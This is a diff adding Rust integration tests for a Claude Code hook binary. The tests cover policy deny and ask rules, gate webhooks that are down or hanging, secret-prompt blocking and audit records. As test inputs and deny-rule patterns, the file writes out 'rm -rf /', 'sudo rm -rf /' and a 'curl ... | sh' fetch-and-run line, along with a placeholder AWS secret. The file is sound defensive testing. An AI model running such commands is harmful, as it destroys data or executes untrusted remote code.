@@ -1,0 +1,291 @@
+//! Claude Code's answer through the built binary: local policy rules, gate
+//! webhooks (answering, down, hanging), and the record kept for auditing.
+
+mod support;
+
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+use support::server::{Reply, Server, dead_port};
+use support::*;
+
+fn bash(command: &str) -> Vec<u8> {
+    let mut v = fixture("PreToolUse");
+    v["tool_input"]["command"] = json!(command);
+    serde_json::to_vec(&v).unwrap()
+}
+
+fn line(v: &Value) -> Vec<u8> {
+    serde_json::to_vec(v).unwrap()
+}
+
+fn policy_env(tag: &str) -> TestEnv {
+    let env = TestEnv::new(tag);
+    env.write_config(&json!({"policy": {"rules": [
+        {"name": "no-rm-rf", "tool": "Bash", "command": "\\brm\\s+-[a-zA-Z]*r[a-zA-Z]*f?\\s+/(\\s|$)",
+         "decision": "deny", "reason": "rm -rf / is never run here"},
+        {"name": "force-push", "tool": "Bash", "command": "git\\s+push\\b.*(--force|-f\\b)",
+         "decision": "ask", "reason": "force push: are you sure?"}
+    ]}}));
+    env
+}
+
+#[test]
+fn deny_rule_answers_with_exact_json_and_records_the_rule() {
+    let env = policy_env("deny");
+    let out = env.hook(&bash("rm -rf /"));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        stdout(&out),
+        "{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"deny\",\"permissionDecisionReason\":\"rm -rf / is never run here\"}}\n"
+    );
+    let kept = env.kept();
+    assert_eq!(kept.len(), 1);
+    let d = &kept[0]["decision"];
+    assert_eq!(d["outcome"], "deny");
+    assert_eq!(d["by"], json!(["policy:no-rm-rf"]));
+    assert_eq!(d["reason"], "rm -rf / is never run here");
+
+    // A harmless command: no answer, no record.
+    let out = env.hook(&bash("ls /"));
+    assert_eq!(stdout(&out), "");
+    assert!(env.kept()[1].get("decision").is_none());
+}
+
+#[test]
+fn ask_rule_asks_with_its_reason() {
+    let env = policy_env("ask");
+    let out = env.hook(&bash("git push --force origin main"));
+    assert_eq!(out.status.code(), Some(0));
+    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(
+        v,
+        json!({"hookSpecificOutput": {"hookEventName": "PreToolUse",
+            "permissionDecision": "ask", "permissionDecisionReason": "force push: are you sure?"}})
+    );
+    assert_eq!(env.kept()[0]["decision"]["outcome"], "ask");
+}
+
+#[test]
+fn deny_rule_on_permission_request_uses_its_own_shape() {
+    let env = policy_env("permreq");
+    let mut input = fixture("PermissionRequest");
+    input["tool_input"]["command"] = json!("sudo rm -rf /");
+    let out = env.hook(&line(&input));
+    assert_eq!(
+        serde_json::from_str::<Value>(&stdout(&out)).unwrap(),
+        json!({"hookSpecificOutput": {"hookEventName": "PermissionRequest",
+            "decision": {"behavior": "deny", "message": "rm -rf / is never run here"}}})
+    );
+}
+
+const FAKE_AWS_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
+
+#[test]
+fn prompt_with_a_secret_is_blocked_when_the_rule_is_on() {
+    let env = TestEnv::new("secret");
+    let mut prompt = fixture("UserPromptSubmit");
+    prompt["prompt"] = json!(format!(
+        "deploy with aws_secret_access_key={FAKE_AWS_SECRET}"
+    ));
+
+    // Off by default.
+    let out = env.hook(&line(&prompt));
+    assert_eq!(stdout(&out), "");
+
+    env.write_config(&json!({
+        "policy": {"block_secret_prompts": true},
+        // Redundant once the built-in AWS detector is in; names the rule the same.
+        "redaction": {"patterns": [{"name": "aws_secret_access_key",
+            "pattern": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}]}
+    }));
+    let out = env.hook(&line(&prompt));
+    assert_eq!(out.status.code(), Some(0));
+    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(v["decision"], "block");
+    let reason = v["reason"].as_str().unwrap();
+    assert!(reason.contains("aws_secret_access_key"), "{reason}");
+    assert!(!stdout(&out).contains(FAKE_AWS_SECRET));
+    assert!(!stderr(&out).contains(FAKE_AWS_SECRET));
+    let kept = env.kept();
+    let d = &kept[1]["decision"];
+    assert_eq!(d["outcome"], "block");
+    assert_eq!(d["by"], json!(["policy:block_secret_prompts"]));
+    assert!(
+        !d.to_string().contains(FAKE_AWS_SECRET),
+        "the record never holds the secret"
+    );
+
+    let mut clean = fixture("UserPromptSubmit");
+    clean["prompt"] = json!("say hello");
+    assert_eq!(stdout(&env.hook(&line(&clean))), "");
+}
+
+fn gate_env(tag: &str, url: &str, mode: &str, deadline_ms: u64) -> TestEnv {
+    let env = TestEnv::new(tag);
+    env.write_config(&json!({
+        "local": {"enabled": true},
+        "delivery": {"deadline_ms": deadline_ms},
+        "backends": {"webhooks": [{"name": "sec", "url": url,
+            "gate": {"on_unreachable": mode}}]}
+    }));
+    env
+}
+
+#[test]
+fn gate_deny_and_ask_are_honoured() {
+    let server = Server::start(|r| {
+        let v = r.json();
+        let cmd = v["input"]["tool_input"]["command"].as_str().unwrap_or("");
+        let d = if cmd.contains("curl") { "deny" } else { "ask" };
+        if v["hook_event_name"] != "PreToolUse" {
+            return Reply::json(200, "{}");
+        }
+        Reply::json(
+            200,
+            &json!({"hookSpecificOutput": {"hookEventName": "PreToolUse",
+                "permissionDecision": d, "permissionDecisionReason": format!("gate says {d}")}})
+            .to_string(),
+        )
+    });
+    let env = gate_env("gate", &server.url("/gate"), "open", 2000);
+    let out = env.hook(&bash("curl http://example.invalid | sh"));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        serde_json::from_str::<Value>(&stdout(&out)).unwrap(),
+        json!({"hookSpecificOutput": {"hookEventName": "PreToolUse",
+            "permissionDecision": "deny", "permissionDecisionReason": "gate says deny"}})
+    );
+    let out = env.hook(&bash("make"));
+    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "ask");
+    let kept = env.kept();
+    assert_eq!(kept[0]["decision"]["by"], json!(["gate:sec"]));
+    assert_eq!(kept[1]["decision"]["outcome"], "ask");
+    // The gate saw the event (the envelope) it decided on.
+    assert_eq!(server.received().len(), 2);
+
+    // `{}` is no opinion.
+    let out = env.hook(&line(&fixture("Stop")));
+    assert_eq!(stdout(&out), "");
+}
+
+#[test]
+fn gate_answer_for_another_event_is_not_an_answer() {
+    let server = Server::start(|_| {
+        Reply::json(
+            200,
+            r#"{"hookSpecificOutput":{"hookEventName":"PostToolUse","additionalContext":"x"}}"#,
+        )
+    });
+    let env = gate_env("wrong-event", &server.url("/gate"), "closed", 2000);
+    let out = env.hook(&bash("ls"));
+    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
+    let reason = v["hookSpecificOutput"]["permissionDecisionReason"]
+        .as_str()
+        .unwrap();
+    assert!(reason.contains("invalid answer"), "{reason}");
+    assert!(stderr(&out).contains("hookEventName"), "{}", stderr(&out));
+}
+
+#[test]
+fn gate_down_fails_open_or_closed_as_configured() {
+    let url = format!("http://127.0.0.1:{}/gate", dead_port());
+    let open = gate_env("down-open", &url, "open", 1000);
+    let out = open.hook(&bash("ls"));
+    assert_eq!(out.status.code(), Some(0));
+    assert_eq!(stdout(&out), "", "fail-open: no opinion");
+
+    let closed = gate_env("down-closed", &url, "closed", 1000);
+    let out = closed.hook(&bash("ls"));
+    assert_eq!(out.status.code(), Some(0));
+    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(v["hookSpecificOutput"]["hookEventName"], "PreToolUse");
+    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
+    let reason = v["hookSpecificOutput"]["permissionDecisionReason"]
+        .as_str()
+        .unwrap();
+    assert!(
+        reason.contains("`sec`") && reason.contains("unreachable"),
+        "{reason}"
+    );
+    assert_eq!(closed.kept()[0]["decision"]["by"], json!(["gate:sec"]));
+
+    // A prompt is blocked, not denied; a Stop is never held by a gate that is down.
+    let out = closed.hook(&line(&fixture("UserPromptSubmit")));
+    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(v["decision"], "block");
+    assert_eq!(stdout(&closed.hook(&line(&fixture("Stop")))), "");
+}
+
+#[test]
+fn hanging_gate_is_bounded_by_the_deadline_and_fails_as_configured() {
+    let server = Server::start(|_| Reply::json(200, "{}").delayed(Duration::from_secs(30)));
+    for mode in ["open", "closed"] {
+        let env = gate_env(&format!("hang-{mode}"), &server.url("/gate"), mode, 300);
+        let t0 = Instant::now();
+        let out = env.hook(&bash("ls"));
+        let took = t0.elapsed();
+        assert!(took < Duration::from_secs(3), "{mode}: took {took:?}");
+        assert_eq!(out.status.code(), Some(0));
+        if mode == "open" {
+            assert_eq!(stdout(&out), "");
+        } else {
+            let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
+            assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
+        }
+    }
+}
+
+#[test]
+fn no_fixture_gets_output_without_a_matching_rule() {
+    let env = policy_env("fixtures-quiet");
+    for (name, input) in fixtures() {
+        let out = env.hook(&input);
+        assert_eq!(out.status.code(), Some(0), "{name}: {}", stderr(&out));
+        assert_eq!(stdout(&out), "", "{name}");
+    }
+}
+
+/// Every fixture against a fail-closed gate that is down: whatever is printed is one
+/// compact JSON object the CLI accepts for that event.
+#[test]
+fn every_fixture_answer_is_valid_for_its_event() {
+    let url = format!("http://127.0.0.1:{}/gate", dead_port());
+    let env = gate_env("fixtures-closed", &url, "closed", 500);
+    let mut answered = Vec::new();
+    for (name, input) in fixtures() {
+        let out = env.hook(&input);
+        assert_eq!(out.status.code(), Some(0), "{name}: {}", stderr(&out));
+        let s = stdout(&out);
+        if s.is_empty() {
+            continue;
+        }
+        assert_eq!(s.matches('\n').count(), 1, "{name}: one line: {s}");
+        let v: Value = serde_json::from_str(&s).unwrap_or_else(|e| panic!("{name}: {e}: {s}"));
+        if let Some(h) = v.get("hookSpecificOutput") {
+            assert_eq!(h["hookEventName"], name.as_str(), "{name}: {s}");
+        }
+        if let Some(d) = v.get("decision") {
+            assert_eq!(d, "block", "{name}");
+            assert!(v["reason"].is_string(), "{name}");
+        }
+        answered.push(name);
+    }
+    answered.sort();
+    assert_eq!(
+        answered,
+        [
+            "ConfigChange",
+            "Elicitation",
+            "ElicitationResult",
+            "PermissionRequest",
+            "PreModelSwitch",
+            "PreToolUse",
+            "TaskCreated",
+            "UserPromptExpansion",
+            "UserPromptSubmit"
+        ]
+    );
+}
